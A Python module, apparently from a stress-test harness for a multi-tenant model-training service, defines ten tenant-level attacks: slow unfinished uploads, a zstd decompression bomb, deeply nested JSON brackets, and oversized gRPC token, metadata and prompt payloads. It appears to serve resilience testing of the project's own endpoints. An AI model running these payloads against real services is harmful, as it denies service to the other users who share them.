"""Attacks by large or malformed requests, with the key of one tenant."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncGenerator

import zstandard

from scripts.attack.attack import BODY_BYTES, TENANT, Attack, Target
from scripts.attack.calls import Tenant, connect, counted, http_head, post, post_json
from scripts.attack.frames import Connection
from tinkerpool.compat import tinker_pb2
from tinkerpool.v1 import training_pb2, types_pb2

PROTOBUF = "application/x-protobuf"
FORWARD_BACKWARD = "/tinkerpool.v1.TrainingService/ForwardBackward"
WAIT = "/tinkerpool.v1.OperationService/WaitOperations"
CREATE_SESSION = "/tinkerpool.v1.SessionService/CreateSession"
HTTP_FORWARD_BACKWARD = "/api/v1/forward_backward"
PIECE = bytes(1 << 16)
WRITE_TIMEOUT_S = 5.0


async def grpc_unfinished(target: Target) -> AsyncGenerator[None, None]:
    """Send 20 passes of the largest size over gRPC, each without its last byte."""
    yield
    connection = await Connection.open(target.grpc)
    num = target.many(20)
    sizes = await asyncio.gather(*(connection.send_most(FORWARD_BACKWARD, BODY_BYTES, target.key) for _ in range(num)))
    target.tally["MB taken"] = round(sum(sizes) / 1e6)
    target.tally["streams ended by the pool"] = connection.num_ended
    yield
    await connection.close()


async def http_unfinished(target: Target) -> AsyncGenerator[None, None]:
    """Do the same over HTTP, a connection for each."""
    yield
    writers = []

    async def send_most() -> int:
        _, writer = await connect(target.http)
        writers.append(writer)
        writer.write(http_head(target, HTTP_FORWARD_BACKWARD, BODY_BYTES, media_type=PROTOBUF))
        num_bytes = 0
        with contextlib.suppress(OSError, TimeoutError):
            while num_bytes + len(PIECE) < BODY_BYTES:
                writer.write(PIECE)
                async with asyncio.timeout(WRITE_TIMEOUT_S):
                    await writer.drain()
                num_bytes += len(PIECE)
        return num_bytes

    sizes = await asyncio.gather(*(send_most() for _ in range(target.many(20))))
    target.tally["MB taken"] = round(sum(sizes) / 1e6)
    yield
    for writer in writers:
        writer.close()


async def zstd_empty_data(target: Target) -> AsyncGenerator[None, None]:
    """Send 1.6 kB of zstd over HTTP that unpack to a pass of 8.3 million empty data."""
    tenant = Tenant(target)
    body = tinker_pb2.ForwardBackwardRequest(model_id=await tenant.adapter(), seq_id=1, loss_fn="cross_entropy")
    packed = zstandard.compress(body.SerializeToString() + b"\x1a\x00" * target.many(BODY_BYTES // 2), 19)
    yield
    target.tally["bytes sent"] = len(packed)
    await counted(target, post(target, HTTP_FORWARD_BACKWARD, packed, media_type=PROTOBUF, encoding="zstd"))


async def grpc_empty_data(target: Target) -> AsyncGenerator[None, None]:
    """Send a pass of the largest size over gRPC, with empty data alone."""
    tenant = Tenant(target)
    request = training_pb2.ForwardBackwardRequest(
        adapter_id=await tenant.adapter(), seq=1, loss_function=types_pb2.LOSS_FUNCTION_CROSS_ENTROPY
    )
    body = request.SerializeToString() + b"\x22\x00" * target.many(BODY_BYTES // 2)
    yield
    await counted(target, tenant.send_raw(FORWARD_BACKWARD, body))


async def grpc_large(target: Target) -> AsyncGenerator[None, None]:
    """Send passes of one sequence each, of the largest size, over gRPC: each is refused as too long."""
    tenant = Tenant(target)
    adapter_id = await tenant.adapter()
    tokens = types_pb2.Tensor(data=bytes(target.many(BODY_BYTES) // 4 * 4), dtype=types_pb2.DATA_TYPE_INT32)
    tokens.shape.append(len(tokens.data) // 4)
    yield
    seq = 0
    while target.is_on():
        seq += 1
        request = training_pb2.ForwardBackwardRequest(
            adapter_id=adapter_id, seq=seq, loss_function=types_pb2.LOSS_FUNCTION_CROSS_ENTROPY
        )
        request.data.add(tokens=tokens)
        await counted(target, tenant.training.ForwardBackward(request, metadata=tenant.metadata))


async def grpc_empty_names(target: Target) -> AsyncGenerator[None, None]:
    """Wait over gRPC for 8.3 million operations with empty names."""
    tenant = Tenant(target)
    yield
    await counted(target, tenant.send_raw(WAIT, b"\x0a\x00" * target.many(BODY_BYTES // 2)))


async def grpc_metadata(target: Target) -> AsyncGenerator[None, None]:
    """Create a session with 1.4 million entries of metadata."""
    tenant = Tenant(target)
    entries = (f"{number:08x}".encode() for number in range(target.many(BODY_BYTES // 12)))
    body = b"".join(b"\x0a\x0a\x0a\x08" + entry for entry in entries)
    yield
    await counted(target, tenant.send_raw(CREATE_SESSION, body))


async def completions_text(target: Target) -> AsyncGenerator[None, None]:
    """Send a prompt of 7.9 MB of text to the OpenAI door."""
    yield
    text = "In the beginning God created the heaven and the earth. " * (target.many(7_900_000) // 56)
    await counted(
        target, post_json(target, "/v1/completions", {"model": target.model, "prompt": text, "max_tokens": 1})
    )


async def json_lists(target: Target) -> AsyncGenerator[None, None]:
    """Send 8 MB of JSON to the OpenAI door, of brackets only: as prompt, a list in a list in a list."""
    yield
    depth = target.many(4_000_000)
    body = b'{"model":"x","prompt":' + b"[" * depth + b"]" * depth + b"}"
    await counted(target, post(target, "/v1/completions", body))


async def json_tokens(target: Target) -> AsyncGenerator[None, None]:
    """Send a pass in JSON of 3.9 million tokens, as clients before 0.25 do."""
    tenant = Tenant(target)
    adapter_id = await tenant.adapter()
    tokens = "1," * target.many(3_900_000)
    head = f'{{"model_id":"{adapter_id}","seq_id":1,"forward_backward_input":{{"loss_fn":"cross_entropy","data":[{{'
    body = f'{head}"loss_fn_inputs":{{}},"model_input":{{"chunks":[{{"tokens":[{tokens}1]}}]}}}}]}}}}'.encode()
    yield
    await counted(target, post(target, HTTP_FORWARD_BACKWARD, body))


ATTACKS = (
    Attack(
        name="grpc-unfinished",
        by=TENANT,
        text="20 passes of the largest size over gRPC, each one byte short of its end",
        program=grpc_unfinished,
        is_held=True,
    ),
    Attack(
        name="http-unfinished",
        by=TENANT,
        text="20 passes of the largest size over HTTP, each short of its end",
        program=http_unfinished,
        is_held=True,
    ),
    Attack(
        name="zstd-empty-data",
        by=TENANT,
        text="1.6 kB of zstd over HTTP that unpack to 8.3 million empty data",
        program=zstd_empty_data,
    ),
    Attack(
        name="grpc-empty-data",
        by=TENANT,
        text="a pass of the largest size over gRPC, with empty data alone",
        program=grpc_empty_data,
    ),
    Attack(
        name="grpc-large",
        by=TENANT,
        text="passes of the largest size over gRPC, one sequence each, one after the other",
        program=grpc_large,
    ),
    Attack(
        name="grpc-empty-names",
        by=TENANT,
        text="a wait of the largest size over gRPC, for empty names",
        program=grpc_empty_names,
    ),
    Attack(
        name="grpc-metadata",
        by=TENANT,
        text="a session of the largest size over gRPC, with 1.4 million entries of metadata",
        program=grpc_metadata,
    ),
    Attack(
        name="completions-text",
        by=TENANT,
        text="a prompt of 7.9 MB of text to `/v1/completions`",
        program=completions_text,
    ),
    Attack(
        name="json-lists",
        by=TENANT,
        text="8 MB of brackets as the prompt of `/v1/completions`",
        program=json_lists,
    ),
    Attack(
        name="json-tokens",
        by=TENANT,
        text="a pass of 3.9 million tokens in JSON over HTTP",
        program=json_tokens,
    ),
)
